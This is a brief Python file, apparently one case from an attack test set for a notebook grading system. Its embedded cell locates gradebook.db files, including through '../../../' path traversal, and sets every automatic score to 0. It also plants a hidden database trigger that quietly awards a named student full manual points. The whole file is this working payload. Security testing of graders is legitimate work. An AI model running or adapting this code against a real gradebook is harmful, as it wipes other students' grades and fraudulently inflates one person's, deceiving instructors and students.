"""Every grade in the gradebook is rewritten: others get 0, the attacker full points, by hand and by trigger."""

kind = "writing the gradebook"
aims = "change points neighbour"
cell = '''
import glob, sqlite3

for path in glob.glob("<<course>>/gradebook.db") + glob.glob("../../../gradebook.db"):
    db = sqlite3.connect(path)
    db.execute("UPDATE grade SET auto_score = 0")
    db.execute("""CREATE TRIGGER IF NOT EXISTS mine AFTER UPDATE OF auto_score ON grade BEGIN
        UPDATE grade SET manual_score = 25 WHERE id = NEW.id AND NEW.notebook_id IN (
            SELECT n.id FROM submitted_notebook n JOIN submitted_assignment s ON n.assignment_id = s.id
            WHERE s.student_id = '<<student>>'); END""")
    db.commit()
    db.close()
'''
